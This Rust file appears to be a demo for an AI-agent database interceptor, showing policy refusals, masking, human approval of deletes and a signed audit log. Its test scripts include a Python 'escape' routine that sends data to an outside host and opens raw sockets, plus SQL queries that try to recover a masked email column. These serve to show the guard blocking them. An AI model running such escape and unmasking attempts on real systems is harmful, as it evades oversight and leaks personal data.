//! The demo's story, told on the terminal: what the agent tried, what the kernel saw, what policy said, what was
//! recorded. `cargo xtask demo` builds and starts it.

use std::{
    process::ExitCode,
    time::{Duration, Instant},
};

use interceptor_tests::{
    Bed, Finished, Installation, Job, Logins, RunningBed, Setup, installation, interrupt,
    mysql::{self, RunningMysql},
    process::PATIENCE,
    redis::{self, RunningRedis},
};

/// An agent in Python.
const AGENT: &str = r#"
import psycopg
with psycopg.connect("host=db.internal dbname=orders user=agent password=no-idea sslmode=verify-full") as session:
    print("logged in as", session.execute("SELECT current_user").fetchone()[0], "without knowing a password")
    with session.pipeline():
        rows = [session.execute("SELECT name FROM users WHERE id = %s", [n]) for n in (1, 2, 3)]
    print("three queries in one pipeline:", [row.fetchone()[0] for row in rows])
    try:
        session.execute("SELECT value FROM secrets")
    except psycopg.errors.InsufficientPrivilege as refusal:
        print("refused:", refusal.diag.message_primary)
"#;

/// What a program does that would rather not be seen.
const ESCAPES: &str = r#"
import socket, sys
def attempt(what, do):
    try:
        said = do()
        print(f"  {what}: {said or 'went through'}"); return 0 if said else 1
    except OSError as error:
        print(f"  {what}: {error.strerror or error}"); return 0
def udp(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"rows", ("192.0.2.1", 9))
def dial(*address):
    s = socket.create_connection(address, 5)
    s.send(b"rows")
    return None if s.recv(1) else "closed at once"
def other(): return dial("192.0.2.1", 443)
def raw(): socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
def ping(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
def lite(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
def packet(): socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
def direct(): return dial("127.0.0.1", int(sys.argv[1]))
tries = [("a datagram to another host", udp), ("a connection to another host", other), ("a raw socket", raw),
         ("a ping socket", ping), ("UDP-Lite", lite), ("a packet socket", packet),
         ("the database's own port on this host", direct)]
sys.exit(sum(attempt(*one) for one in tries))
"#;

fn main() -> ExitCode {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let keep = match arguments.iter().map(String::as_str).collect::<Vec<_>>().as_slice() {
        [] => false,
        ["--keep"] => true,
        _ => {
            eprintln!("usage: interceptor-demo [--keep]");
            return ExitCode::from(2);
        }
    };
    interrupt::listen();
    let mut story = Story::begin();
    for chapter in [
        Story::database,
        Story::client,
        Story::others,
        Story::masking,
        Story::people,
        Story::ways_around,
        Story::kernel,
        Story::record,
    ] {
        if !interrupt::stopped() {
            chapter(&mut story);
        }
    }
    story.end(keep)
}

/// The stage: databases, an installation, and whether all went as told.
struct Story {
    bed: RunningBed,
    mysql: RunningMysql,
    redis: RunningRedis,
    installation: Installation,
    logins: Logins,
    good: bool,
}

impl Story {
    fn begin() -> Self {
        heading("A database, and an agent that does not know its password");
        let bed = Bed::start();
        println!("PostgreSQL runs on 127.0.0.1:{}; agents will know it as db.internal:5432.", bed.port());
        let (mysql, redis) = (RunningMysql::start(), RunningRedis::start());
        println!("So do a MariaDB and a Redis, as shop.internal:3306 and as the socket {SOCKET}.");
        mysql.admin("USE shop; CREATE TABLE goods (id INT PRIMARY KEY, name TEXT); INSERT INTO goods VALUES (1, 'lamp')");
        redis.admin(&["SET", "greeting", "hello"]);
        let logins = Logins::of(&["bob"]);
        let installation = Setup::empty()
            .resource("approvers = [\"dba\"]\n")
            .resource(&installation::orders(&bed, "app", "scram-sha-256"))
            .resource(&(mysql.by_name() + &redis.by_socket(SOCKET)))
            .credential("orders", bed.secret())
            .credential("shop", mysql.secret())
            .credential("cache", redis.secret())
            .people(&logins.people(&[("bob", "dba")]))
            .policy("10-demo.cedar", installation::POLICY)
            .policy("20-demo.cedar", HOLD)
            .policy("30-demo.cedar", OTHERS)
            .labels(LABELS)
            .settings("local-approval = \"on\"")
            .start();
        println!(
            "The daemon runs; its policy permits agents to read and write rows, and says in its own words:"
        );
        for line in installation::POLICY
            .lines()
            .chain(HOLD.lines())
            .filter(|line| line.starts_with("@say") || line.starts_with("forbid"))
        {
            println!("    {line}");
        }
        Self { bed, mysql, redis, installation, logins, good: true }
    }

    /// Notes whether something went as the story says.
    fn expect(&mut self, as_told: bool, what: &str) {
        if !as_told {
            self.good = false;
            println!("!! this did not go as it should: {what}");
        }
    }

    fn captured(&self, words: &[&str], shown: &str) -> Finished {
        println!("\n$ sudo interceptor run --agent release-bot -- {shown}");
        let finished = self.installation.run("release-bot", words);
        print(&finished);
        finished
    }

    fn database(&mut self) {
        heading("The agent uses psql, as it always did");
        let base = ["psql", "-X", "-d", installation::DSN, "-c"];
        let allowed = self.captured(&[&base[..], &[READ]].concat(), &format!("psql ... -c '{READ}'"));
        self.expect(allowed.status.success() && allowed.stdout.contains("user1"), "the SELECT is answered");
        let refused = self.captured(&[&base[..], &[DROP]].concat(), &format!("psql ... -c '{DROP}'"));
        self.expect(
            refused.stderr.contains("migrations only"),
            "the DROP is refused, with the policy's words",
        );
        let rows = self.bed.admin("orders", "SELECT count(*) FROM users");
        self.expect(rows == "100", "the table is still there");
        println!("The table still has {rows} rows: the server never saw the DROP.");
    }

    fn client(&mut self) {
        let python = interceptor_tests::places::target().join("clients/venv/bin/python");
        if !python.exists() {
            println!(
                "\n(`cargo xtask setup` installs psycopg, asyncpg and others; the demo then shows one of them.)"
            );
            return;
        }
        heading("A Python program, not changed either");
        let script = self.installation.script("agent.py", AGENT);
        let finished = self.captured(&[&python.display().to_string(), &script], "python3 agent.py");
        self.expect(finished.stdout.contains("refused:"), "the guarded table is refused");
    }

    fn others(&mut self) {
        heading("MySQL by its name, and Redis by its local socket, the same way");
        let run = |story: &Self, words: &[String], shown: &str| {
            let words: Vec<&str> = words.iter().map(String::as_str).collect();
            story.captured(&words, shown)
        };
        let sql = |story: &Self, text: &str| {
            let words = mysql::client(&["--table", "--database=shop", "--execute", text]);
            run(story, &words, &format!("mariadb -h shop.internal -e '{text}'"))
        };
        let read = sql(self, "SELECT * FROM goods");
        self.expect(read.stdout.contains("lamp"), "MariaDB answers");
        let refused = sql(self, "DROP TABLE goods");
        self.expect(refused.stderr.contains("migrations only"), "the DROP is refused here, too");
        self.expect(self.mysql.admin("SELECT COUNT(*) FROM shop.goods") == "1", "the table is still there");
        let command = |story: &Self, words: &[&str]| {
            let all = redis::client(&[&["-s", SOCKET], words].concat());
            run(story, &all, &format!("redis-cli -s {SOCKET} {}", words.join(" ")))
        };
        let told = command(self, &["GET", "greeting"]);
        self.expect(told.stdout.contains("hello"), "Redis answers");
        let refused = command(self, &["FLUSHALL"]);
        self.expect(refused.stdout.contains("name the keys"), "what names no key is refused");
        self.expect(self.redis.admin(&["EXISTS", "greeting"]) == "1", "the key is still there");
    }

    fn masking(&mut self) {
        heading("Data that this agent may not see");
        println!("labels.toml says which columns are of which kind; no rule lets this agent see them:");
        LABELS.lines().filter(|line| !line.is_empty()).for_each(|line| println!("    {line}"));
        let psql = |story: &Self, text: &str| {
            let words = ["psql", "-X", "-d", installation::DSN, "-c", text];
            story.captured(&words, &format!("psql ... -c \"{text}\""))
        };
        let read = psql(self, "SELECT id, name, email FROM users WHERE id < 4");
        self.expect(read.stdout.contains("user1") && read.stdout.contains("****"), "the rows come masked");
        println!(
            "\nSo it tries to take the column apart, to hide it in a document, to send it reversed and encoded:"
        );
        let addresses = ["example.org", "gro.elpmaxe", "dXNlcj"];
        for trick in TRICKS {
            let told = psql(self, trick);
            let leaks = addresses.iter().any(|part| told.text().contains(part));
            self.expect(told.status.success() && !leaks, "the trick brings nothing");
        }
        println!("\nAnd to learn it from the order of the rows:");
        let refused = psql(self, ORACLE);
        self.expect(refused.stderr.contains("label.filter"), "the order is refused, and the label named");
    }

    fn people(&mut self) {
        heading("A statement that waits for a person");
        println!("\n$ sudo interceptor run --agent release-bot -- psql ... -c '{DELETE}'");
        let words = ["psql", "-X", "-d", installation::DSN, "-c", DELETE];
        let waiting = Job::start(self.installation.captured("release-bot", &words), "");
        let id = self.installation.open_approval(DELETE);
        println!("    (it waits; its client is told so. In a second terminal, bob logs in by ssh:)");
        let shown = self.second_terminal(&["approvals", "show", &id]);
        self.expect(shown.stdout.contains("deletes-wait"), "the request is shown whole");
        let approved = self.second_terminal(&["approvals", "approve", &id]);
        self.expect(approved.status.success(), "bob approves");
        println!("\nIn the first terminal:");
        let finished = waiting.finish(PATIENCE);
        print(&finished);
        self.expect(finished.stdout.contains("DELETE 1"), "the statement goes on by itself");
        let alone = self.told(&["approvals", "approve", &id]);
        self.expect(!alone.status.success(), "root without a session is nobody");
    }

    /// Runs a command of the product in a log-in session of bob's, and shows it.
    fn second_terminal(&self, words: &[&str]) -> Finished {
        println!("\nbob$ interceptor {}", words.join(" "));
        let finished = self.logins.interceptor("bob", self.installation.root(), words);
        print(&finished);
        finished
    }

    fn ways_around(&mut self) {
        heading("The agent looks for a way around");
        let script = self.installation.script("escape.py", ESCAPES);
        let port = self.bed.port().to_string();
        let finished = self.captured(&["/usr/bin/python3", &script, &port], "python3 escape.py");
        self.expect(finished.status.success(), "none of these goes through");
    }

    fn kernel(&mut self) {
        heading("What the kernel saw");
        let status = self.told(&["status"]);
        self.expect(status.status.success(), "the daemon says how it is");
    }

    fn record(&mut self) {
        heading("What was recorded, and why");
        self.told(&["audit", "tail", "-n", "24"]);
        let refused = self.installation.records().0;
        let drop =
            refused.iter().rev().find(|exchange| exchange.statement() == DROP).map(|exchange| exchange.id());
        let why = self.told(&["why", &drop.map_or("--last".to_owned(), |id| id.to_string())]);
        self.expect(why.stdout.contains("no-drops"), "the rule that refused the DROP is named");
        self.wait_for_a_checkpoint();
        let verify = self.told(&["audit", "verify"]);
        self.expect(verify.status.success(), "the record is whole");
        self.expect(verify.stdout.contains("by a signed checkpoint"), "the record is signed");
    }

    /// The keeper signs what is new every ten seconds; before that there is nothing to prove.
    fn wait_for_a_checkpoint(&self) {
        let begun = Instant::now();
        let unsigned = || {
            self.installation.interceptor(&["--json", "audit", "verify"]).stdout.contains("\"proven\":null")
        };
        while begun.elapsed() < Duration::from_secs(20) && !interrupt::stopped() && unsigned() {
            std::thread::sleep(Duration::from_millis(250));
        }
    }

    /// Runs a command of the product for an operator, and shows it.
    fn told(&self, words: &[&str]) -> Finished {
        println!("\n$ sudo interceptor {}", words.join(" "));
        let finished = self.installation.interceptor(words);
        print(&finished);
        finished
    }

    fn end(self, keep: bool) -> ExitCode {
        let Self { bed, mysql, redis, installation, logins, good } = self;
        if keep {
            heading("Left running, as asked");
            let binary = interceptor_tests::places::interceptor();
            let root = installation.root().display().to_string();
            println!("The daemon ends with Ctrl-C here. Until then, try in another terminal:");
            println!(
                "    sudo {} --root {root} run --user nobody --agent release-bot -- \\",
                binary.display()
            );
            println!("        psql '{}'", installation::DSN);
            println!("    sudo {} --root {root} audit tail --follow", binary.display());
            while !interrupt::stopped() {
                std::thread::sleep(Duration::from_millis(100));
            }
        }
        installation.finish();
        drop((bed, mysql, redis, logins));
        heading(if good {
            "Cleaned up: nothing is left running"
        } else {
            "Cleaned up, but the story did not go as told"
        });
        println!("Next, for a database of your own:\n    sudo interceptor init");
        if good { ExitCode::SUCCESS } else { ExitCode::FAILURE }
    }
}

const READ: &str = "SELECT id, name FROM users WHERE id < 4";
const DROP: &str = "DROP TABLE users";
const DELETE: &str = "DELETE FROM orders WHERE id = 7";
/// What is labelled.
const LABELS: &str = r#"
[label.email]
resources = ["orders"]
columns = ["public.users.email"]
detect = ["email"]
mask = "partial"
"#;
/// Ways to have a masked column come in another form.
const TRICKS: [&str; 3] = [
    "SELECT email::varchar AS harmless, left(email, 5) AS a, substr(email, 6) AS b FROM users WHERE id < 3",
    "SELECT row_to_json(u) FROM users u WHERE id < 3",
    "SELECT reverse(email), encode(email::bytea, 'base64') FROM users WHERE id < 3",
];
/// A way to learn it without reading it.
const ORACLE: &str = "SELECT id FROM users ORDER BY email LIMIT 3";
/// Where agents look for a local Redis.
const SOCKET: &str = "/run/redis/redis-server.sock";
/// What the other two are good for.
const OTHERS: &str = r#"
@id("shop")
permit (principal, action in [Action::"connect", Action::"data.read", Action::"session.change"], resource in Resource::"shop");
@id("local-cache")
permit (principal, action in [Action::"connect", Action::"data.read", Action::"session.change"], resource in Resource::"local");
@id("no-patterns")
@say("name the keys that you need")
forbid (principal, action in Action::"data", resource is Object) when { resource.kind == "keys" };
"#;
/// What waits for a person.
const HOLD: &str = r#"
@id("deletes-wait")
@hold("dba") @within("60s")
@say("deleting rows waits for a DBA")
forbid (principal, action == Action::"data.delete", resource)
unless { context.approvals.dba >= 1 };
"#;

fn heading(text: &str) {
    println!("\n== {text}");
}

fn print(finished: &Finished) {
    for line in finished.text().lines() {
        println!("    {line}");
    }
}
